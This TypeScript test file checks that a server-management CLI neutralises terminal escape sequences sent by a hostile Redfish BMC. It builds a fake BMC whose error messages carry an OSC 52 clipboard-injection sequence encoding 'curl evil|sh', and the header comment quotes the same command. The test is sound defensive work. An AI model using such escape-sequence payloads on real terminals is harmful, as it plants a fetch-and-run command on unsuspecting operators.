/**
 * A hostile "Redfish BMC" (any HTTPS server on the management network can claim to be one) answers every request
 * with HTTP 500 and an error body whose message is an OSC 52 sequence: on xterm it would set the operator's
 * clipboard to `curl evil|sh`. The real `crashcart` binary against a real appliance: what `nodes power` prints
 * (the per-node reason) and what a failed `nodes bmc expect` prints (the CC_ERR_BMC_* error text) carry the
 * BMC's words with every control character as `?`.
 */
import fs from 'node:fs';
import https from 'node:https';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestAppliance, type TestAppliance } from '../support/route-appliance.ts';
import { tmpDir } from '../support/appliance.ts';
import { ProtocolNode } from '../support/protocol-node.ts';
import { makeCert } from '../bmc/peers/tls-cert.ts';
import { cli } from './cli-kit.ts';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007';
const SHOWN = '?]52;c;Y3VybCBldmlsfHNoCg==?';
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

let t: TestAppliance;
let bmc: https.Server;
let bmcPort = 0;
let dir: string;
let id = 0;

beforeAll(async () => {
  dir = await tmpDir('cc-cli-hostile-bmc-');
  const cert = makeCert(dir, 'hostile-bmc');
  bmc = https.createServer({ cert: fs.readFileSync(cert.certFile), key: fs.readFileSync(cert.keyFile) }, (req, res) => {
    req.resume();
    req.on('end', () => {
      res
        .writeHead(500, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: { code: 'Base.1.0.GeneralError', message: OSC52 } }));
    });
  });
  await new Promise<void>((r) => bmc.listen(0, '127.0.0.1', r));
  bmcPort = (bmc.address() as AddressInfo).port;
  t = await startTestAppliance();
  const n = new ProtocolNode(t, ['52:54:00:cc:0e:01'], {});
  await n.boot();
  id = (await t.admin('GET', '/api/v1/nodes?limit=10')).body.nodes[0].id as number;
  const put = await t.admin('PUT', `/api/v1/nodes/${id}/bmc`, {
    driver: 'redfish',
    address: '127.0.0.1',
    port: bmcPort,
    username: 'root',
    password: 'hostile-bmc-pw',
    tls: 'skip',
  });
  expect(put.status).toBe(200);
}, 120_000);

afterAll(async () => {
  await t?.stop();
  await new Promise((r) => bmc?.close(r));
  if (t) fs.rmSync(t.dataDir, { recursive: true, force: true });
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

// Each CLI run starts a Node process through tsx: seconds on a loaded machine (not a timing assertion).
describe('crashcart against a hostile Redfish BMC', { timeout: 300_000 }, () => {
  it("nodes power --action on: the BMC's error body is the reason, its escape sequence shown as ?", async () => {
    const r = await cli(['nodes', 'power', '--action', 'on', String(id), '--data-dir', t.dataDir]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(new RegExp(`^node ${id} +FAIL +CC_ERR_BMC_`));
    expect(r.stdout).toContain(SHOWN);
    expect(r.stdout).not.toMatch(CONTROL);
  });

  it("nodes bmc expect: the error that ends the command quotes the BMC's message with ? for its controls", async () => {
    const pw = path.join(dir, 'pw');
    fs.writeFileSync(pw, 'hostile-bmc-pw\n');
    const r = await cli([
      'nodes',
      'bmc',
      'expect',
      '--driver',
      'redfish',
      '--address',
      '127.0.0.1',
      '--port',
      String(bmcPort),
      '--tls',
      'skip',
      '--user',
      'root',
      '--password-file',
      pw,
      '--data-dir',
      t.dataDir,
    ]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^CC_ERR_BMC_/m);
    expect(r.stderr).toContain(SHOWN);
    expect(r.stderr).toContain('\n  fix: ');
    expect(r.stderr).not.toMatch(CONTROL);
  });
});
